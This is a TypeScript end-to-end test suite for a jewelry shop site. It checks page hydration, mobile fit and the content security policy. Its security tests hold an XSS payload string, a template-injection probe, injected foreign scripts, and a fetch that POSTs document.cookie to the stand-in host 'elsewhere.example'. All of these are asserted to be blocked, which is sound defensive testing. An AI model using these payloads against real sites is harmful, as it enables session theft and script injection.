import { describe, expect } from 'vitest'
import { openProductionRenderer } from '../../src/server/core/ssr/production-renderer.ts'
import { saveReview } from '../../src/server/shop/reviews/save-review.ts'
import { newProduct } from '../factories.ts'
import { test } from '../fixtures/browser.ts'
import { anyPicture, expectGoodOnPhone, visit } from './browser.ts'
import { demoProducts, pathOf } from './demo-products.ts'

const { listPages } = await openProductionRenderer('dist')
const routes = await listPages()

/**
 * An address of every route that needs no sign-in, no rates and no SHOP_ADDRESS, and other states of some.
 * `{id}` stands for a product.
 */
const addresses = [
  ...routes
    .filter(({ isPersonal, sitemap, path }) => !isPersonal && sitemap !== 'rates' && path !== '/visit')
    .flatMap((route) => route.addresses.slice(0, 1)),
  '/shop?category=Rings&color=Gold',
  '/shop/{id}',
  '/shop/category/Rings',
  '/shop/category/Nothing',
  '/categories/all',
  '/gender/female',
  '/gender/male/category/Gold+Jewelry',
  '/search?query=pearl',
  '/search?query=xyzzy',
  '/api/docs',
]
/** Pages that ask the API for nothing once they are open. */
const isComplete = (path: string) =>
  /^\/(help|contact-us|collection|gifts|unauthorized|shop\/[0-9a-f-]{36})$/.test(path)
/** Five tests of about the same length. */
const parts = [0, 1, 2, 3, 4].map(
  (part) => [part + 1, [...new Set(addresses)].filter((_, at) => at % 5 === part)] as const,
)

describe('every page', () => {
  test.for(parts)(
    'CACHE-01 hydrates, asks nothing again, is accessible and fits a phone, part %i',
    async ([, paths], { shop }) => {
      const product = (await demoProducts(shop))(({ name }) => name === 'Aarohi Solitaire Ring')
      const page = await shop.openPage({ width: 390 })
      const calls: string[] = []
      page.on('request', (request) => request.url().includes('/api/') && calls.push(request.url()))
      for (const address of paths) {
        const path = address.replace('/shop/{id}', pathOf(product))
        calls.length = 0
        // A campaign parameter, which the server does not know, changes nothing.
        await visit(page, `${path}${path.includes('?') ? '&' : '?'}utm_source=letter`)
        await expectGoodOnPhone(page)
        if (isComplete(path)) expect(calls, path).toEqual([])
      }
    },
  )

  test('NAV-01 an unknown address shows trending products and fits', async ({ shop }) => {
    const page = await shop.openPage({ path: '/nothing/here', width: 390, expectedErrors: [/status of 404/] })
    await page.mouse.move(10, 10)
    await expect
      .poll(() => page.getByRole('region', { name: 'Trending Products' }).getByRole('article').count())
      .toBe(4)
    await expectGoodOnPhone(page)
  })
})

describe('the content policy', () => {
  test('pages show typed text and never run it (ASVS 1.1.2, 1.2.1, 1.2.3, 1.3.1, 1.3.5, 3.2.2)', async ({
    shop,
  }) => {
    const typed = `</script><script>window.smuggled = 1</script>"'><img src=x onerror="window.smuggled = 1">{{7*7}}<!--`
    const id = await newProduct(shop, {
      name: `Tara ${typed}`,
      description: typed,
      image: await anyPicture(shop),
      isTrending: true,
    })
    await shop.context.db.transaction((tx) =>
      saveReview(tx, {
        productId: id,
        userId: null,
        authorName: typed.slice(0, 60),
        rating: 5,
        comment: typed,
        verifiedBuyer: false,
      }),
    )
    const page = await shop.openPage({ expectedErrors: [/status of 404/] })
    for (const path of [
      '/shop',
      '/',
      `/search?query=${encodeURIComponent(`Tara ${typed}`)}`,
      `/shop?category=${encodeURIComponent(typed)}`,
      `/${encodeURIComponent(typed)}`,
      `/shop/${id}`,
    ]) {
      await visit(page, path)
      expect([path, await page.evaluate(() => 'smuggled' in window)]).toEqual([path, false])
    }
    await expect
      .poll(() => page.getByRole('heading', { level: 1 }).textContent())
      .toContain('</script><script>')
  })

  test('it runs no foreign script and sends nothing elsewhere (ASVS 1.3.2, 1.3.7, 3.4.3, 14.2.3)', async ({
    shop,
  }) => {
    const page = await shop.openPage({
      path: '/help',
      expectedErrors: [/content policy|Content Security Policy/i, /status of 404/],
    })
    const errors: string[] = []
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
    await page.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'window.smuggled = true'
      document.body.append(script)
      const picture = document.createElement('img')
      picture.setAttribute('onerror', 'window.smuggled = true')
      picture.src = '/media/x/y.jpg'
      document.body.append(picture)
      const foreign = document.createElement('script')
      foreign.src = 'https://elsewhere.example/x.js'
      document.body.append(foreign)
      await fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(
        () => undefined,
      )
    })
    const report = (of: RegExp) =>
      errors.some((error) => error.startsWith('The content policy forbids this') && of.test(error))
    await expect
      .poll(() => report(/script-src.* inline/), { message: 'the report of the inline script' })
      .toBe(true)
    await expect
      .poll(() => report(/script-src.*elsewhere/), { message: 'the report of the foreign script' })
      .toBe(true)
    await expect.poll(() => report(/connect-src/), { message: 'the report of the request' }).toBe(true)
    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
  })

  test('no other page shows the shop in a frame (ASVS 3.4.6)', async ({ shop }) => {
    const page = await shop.openPage({ expectedErrors: [/frame/i, /ERR_BLOCKED/] })
    const other = (src: string) => ({
      contentType: 'text/html',
      body: `<iframe src="${shop.address}${src}"></iframe>`,
    })
    await page.route('http://elsewhere.example/*', (route) =>
      route.fulfill(other(new URL(route.request().url()).pathname)),
    )
    // Forwarded unchanged, so that only their headers can keep them out of the frame.
    await page.route(`${shop.address}/help`, async (route) =>
      route.fulfill({ response: await route.fetch() }),
    )
    await page.route(`${shop.address}/plain`, (route) =>
      route.fulfill({ contentType: 'text/html', body: 'no policy' }),
    )
    const framed = async (path: string) => {
      await page.goto(`http://elsewhere.example${path}`)
      return () => page.frames()[1]?.url()
    }
    await expect.poll(await framed('/plain')).toBe(`${shop.address}/plain`)
    await expect.poll(await framed('/help')).toBe('chrome-error://chromewebdata/')
  })
})
